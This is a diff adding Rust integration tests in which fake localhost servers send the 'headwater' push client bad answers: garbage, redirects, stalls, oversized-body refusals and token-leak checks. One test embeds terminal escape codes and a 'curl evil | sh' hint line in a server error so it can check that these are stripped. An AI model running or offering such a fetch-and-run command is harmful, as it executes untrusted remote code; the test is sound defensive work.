@@ -1,0 +1,226 @@
+//! Receivers that are none, or lie: the other mirrors of the run are not affected.
+
+use std::io::{BufRead as _, BufReader, Read as _, Write as _};
+use std::net::{SocketAddr, TcpListener, TcpStream};
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::sync::{Arc, Mutex};
+use std::time::{Duration, Instant};
+
+use headwater::serve::{Access, Right, Token, TokenId, TokenRecord};
+use headwater::tree_path::Site;
+
+use super::{Receiver, push, report, serves_tree};
+use crate::harness::{Outcome, World};
+use crate::trees::Tree;
+
+/// What a liar does with a connection, once it has read the head of a request.
+type Lie = dyn Fn(&mut TcpStream, &str) + Send + Sync;
+
+/// A server made of a closure.
+struct Liar {
+    address: SocketAddr,
+    heads: Arc<Mutex<Vec<String>>>,
+    is_over: Arc<AtomicBool>,
+}
+
+impl Liar {
+    fn start(lie: impl Fn(&mut TcpStream, &str) + Send + Sync + 'static) -> Self {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let address = listener.local_addr().unwrap();
+        let (heads, is_over) = (Arc::new(Mutex::new(Vec::new())), Arc::new(AtomicBool::new(false)));
+        let (lie, kept, over): (Arc<Lie>, _, _) = (Arc::new(lie), Arc::clone(&heads), Arc::clone(&is_over));
+        std::thread::spawn(move || {
+            for stream in listener.incoming() {
+                if over.load(Ordering::SeqCst) {
+                    return;
+                }
+                let (lie, kept) = (Arc::clone(&lie), Arc::clone(&kept));
+                std::thread::spawn(move || converse(stream.unwrap(), &*lie, &kept));
+            }
+        });
+        Self { address, heads, is_over }
+    }
+
+    fn url(&self) -> String {
+        format!("http://{}/docs", self.address)
+    }
+}
+
+impl Drop for Liar {
+    fn drop(&mut self) {
+        self.is_over.store(true, Ordering::SeqCst);
+        TcpStream::connect(self.address).ok();
+    }
+}
+
+fn converse(mut stream: TcpStream, lie: &Lie, heads: &Mutex<Vec<String>>) {
+    let mut reader = BufReader::new(stream.try_clone().unwrap());
+    loop {
+        let mut head = String::new();
+        while !head.ends_with("\r\n\r\n") {
+            if !matches!(reader.read_line(&mut head), Ok(1..)) {
+                return;
+            }
+        }
+        let length = head.lines().find_map(|line| line.to_lowercase().strip_prefix("content-length: ")?.parse().ok());
+        std::io::copy(&mut reader.by_ref().take(length.unwrap_or(0)), &mut std::io::sink()).unwrap();
+        heads.lock().unwrap().push(head.clone());
+        lie(&mut stream, &head);
+    }
+}
+
+fn answer(stream: &mut TcpStream, status: &str, fields: &str, body: &str) {
+    let head = format!("HTTP/1.1 {status}\r\n{fields}content-length: {}\r\n\r\n{body}", body.len());
+    // Whoever has heard enough goes away.
+    stream.write_all(head.as_bytes()).ok();
+}
+
+/// Pushes to a liar and to a directory: the directory has the tree, the liar is named.
+#[track_caller]
+fn push_beside(lie: impl Fn(&mut TcpStream, &str) + Send + Sync + 'static, flags: &[&str], words: &str) -> Liar {
+    let world = World::new();
+    world.write("tree", &Tree::small());
+    let liar = Liar::start(lie);
+    let flags = [flags, &["--require", "1", "--json"]].concat();
+    let (tree, here, url) = (world.at("tree"), world.at("here"), liar.url());
+    let mut command = world.command(&[&["push", &tree, &url, &here], &flags[..]].concat());
+    let outcome = Outcome::of(command.env("HEADWATER_TOKEN", "hw_a_canary")).expect(&[3]);
+    let report = report(&outcome);
+    assert_eq!(report["mirrors"][0]["outcome"], "failed", "{report}");
+    let error = report["mirrors"][0]["error"].as_str().unwrap();
+    assert!(error.contains(words), "{error:?} has no {words:?}");
+    assert!(serves_tree(&world, "here"));
+    liar
+}
+
+#[test]
+fn garbage_is_no_answer() {
+    push_beside(|stream, _| answer(stream, "200 OK", "", "<html>Welcome to nginx!</html>"), &[], "Welcome to nginx!");
+    push_beside(|stream, _| answer(stream, "404 Not Found", "", ""), &[], "empty answer");
+    push_beside(|stream, _| drop(stream.write_all(b"SSH-2.0-OpenSSH_9.2\r\n\r\n")), &[], "connection was lost");
+}
+
+#[test]
+fn what_a_liar_says_does_not_steer_a_terminal() {
+    let world = World::new();
+    world.write("tree", &Tree::small());
+    let json = "{\"error\":{\"kind\":\"denied\",\"message\":\"\\u001b[2Jowned\\u202e\\nhint: curl evil | sh\"}}";
+    let liar =
+        Liar::start(move |stream, _| answer(stream, "403 Forbidden", "content-type: application/json\r\n", json));
+    let outcome = push(&world, &[&liar.url()], &[]).expect(&[7]);
+    assert!(!outcome.stderr.contains('\u{1b}') && !outcome.stderr.contains('\u{202e}'), "{outcome}");
+    assert!(outcome.stderr.contains("owned"), "{outcome}");
+    assert!(!outcome.stderr.lines().any(|line| line.starts_with("hint: curl")), "{outcome}");
+}
+
+#[test]
+fn a_redirect_is_not_followed_and_the_token_stays() {
+    let elsewhere = Liar::start(|stream, _| answer(stream, "200 OK", "", "{\"ok\":{}}"));
+    let to = format!("location: http://{}/docs/v1/state\r\n", elsewhere.address);
+    for status in ["301 Moved", "302 Found", "307 Temporary Redirect", "308 Permanent Redirect"] {
+        let to = to.clone();
+        let liar = push_beside(move |stream, _| answer(stream, status, &to, ""), &[], "redirect");
+        let heads = liar.heads.lock().unwrap();
+        assert!(heads.iter().all(|head| head.contains("Bearer hw_a_canary")), "the mirror itself is told");
+    }
+    assert!(elsewhere.heads.lock().unwrap().is_empty(), "somebody followed");
+}
+
+#[test]
+fn silence_trickles_and_answers_without_end_cost_the_deadline_at_most() {
+    let flags = ["--deadline", "1500ms"];
+    let silent = |_: &mut TcpStream, _: &str| std::thread::park_timeout(Duration::from_secs(20));
+    let trickle = |stream: &mut TcpStream, _: &str| {
+        stream.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 100000\r\n\r\n").ok();
+        while stream.write_all(b"\n").is_ok() {
+            std::thread::park_timeout(Duration::from_millis(30));
+        }
+    };
+    let endless = |stream: &mut TcpStream, _: &str| {
+        stream.write_all(b"HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n").ok();
+        while stream.write_all(b"5\r\n\n\n\n\n\n\r\n").is_ok() {}
+    };
+    let began = Instant::now();
+    push_beside(silent, &flags, "");
+    push_beside(trickle, &flags, "");
+    assert!(began.elapsed() < Duration::from_secs(12), "{:?}", began.elapsed());
+    push_beside(endless, &flags, "");
+    let head = |stream: &mut TcpStream, _: &str| while stream.write_all(b"HTTP/1.1 200 OK\r\nx: y\r\n").is_ok() {};
+    push_beside(head, &flags, "");
+    assert!(began.elapsed() < Duration::from_secs(24), "{:?}", began.elapsed());
+}
+
+#[test]
+fn a_proxy_that_refuses_large_bodies_is_explained() {
+    let state = "{\"ok\":{\"unfinished\":[]}}";
+    let lie = move |stream: &mut TcpStream, head: &str| match head.starts_with("GET") {
+        true => answer(stream, "200 OK", "", state),
+        false => answer(stream, "413 Request Entity Too Large", "content-type: text/html\r\n", "<html>413</html>"),
+    };
+    push_beside(lie, &[], "client_max_body_size");
+}
+
+#[test]
+fn another_version_of_the_protocol_is_named() {
+    let fields = "headwater-protocol: 7\r\ncontent-type: application/json\r\n";
+    let body = "{\"error\":{\"kind\":\"version\",\"message\":\"this receiver speaks version 7\"}}";
+    push_beside(move |stream, _| answer(stream, "426 Upgrade Required", fields, body), &[], "needs version 7");
+}
+
+#[test]
+fn a_mirror_that_acknowledges_and_stores_nothing_fools_nobody_else() {
+    let world = World::new();
+    world.write("tree", &Tree::small());
+    let liar = Liar::start(|stream, head| {
+        let body = match head.split(' ').nth(1).unwrap() {
+            path if path.ends_with("/state") => "{\"ok\":{\"unfinished\":[]}}",
+            path if path.ends_with("/stage") => "{\"ok\":{\"staged\":{\"resent\":0}}}",
+            _ => "{\"ok\":{}}",
+        };
+        answer(stream, "200 OK", "content-type: application/json\r\n", body);
+    });
+    push(&world, &[&liar.url(), &world.at("here")], &[]).expect(&[0]);
+    assert!(serves_tree(&world, "here"));
+    // Whoever looks again sees it.
+    let status = world.run(&["status", &liar.url(), &world.at("here"), "--json"]).expect(&[1]);
+    assert!(status.stdout.contains("\"empty\""), "{status}");
+}
+
+#[test]
+fn tokens_let_in_and_show_nowhere() {
+    let world = World::new();
+    world.write("tree", &Tree::small());
+    let token = Token::random().unwrap();
+    let site = Site::new("default").unwrap();
+    let record = TokenRecord {
+        id: TokenId::new(token.reveal().split('_').nth(1).unwrap()).unwrap(),
+        hash: token.hash(),
+        sites: vec![site.clone()],
+        allow: Right::Push,
+        expires: None,
+    };
+    let receiver = Receiver::with(&world.path("web"), |settings| {
+        settings.access = Access::Tokens(vec![record]);
+        settings.sites[0].name = Some(site);
+    });
+    let (url, tree, secret) = (receiver.url(), world.at("tree"), token.reveal());
+    let arguments = ["push", &tree, &url, "--events", "events.jsonl"];
+    let run = |value: Option<&str>| {
+        let mut command = world.command(&arguments);
+        if let Some(value) = value {
+            command.env("HEADWATER_TOKEN", value);
+        }
+        Outcome::of(&mut command)
+    };
+    let wrong = format!("{secret}canary");
+    let outcomes = [run(None).expect(&[7]), run(Some(&wrong)).expect(&[7]), run(Some(&secret)).expect(&[0])];
+    assert!(outcomes[0].stderr.contains("HEADWATER_TOKEN"), "{}", outcomes[0]);
+    assert!(serves_tree(&world, "web"));
+    let bare = secret.rsplit('_').next().unwrap();
+    for outcome in &outcomes {
+        let events = std::fs::read_to_string(world.path("events.jsonl")).unwrap();
+        for text in [&outcome.stdout, &outcome.stderr, &events] {
+            assert!(!text.contains(bare) && !text.contains("canary"), "a secret shows in {text}");
+        }
+    }
+}
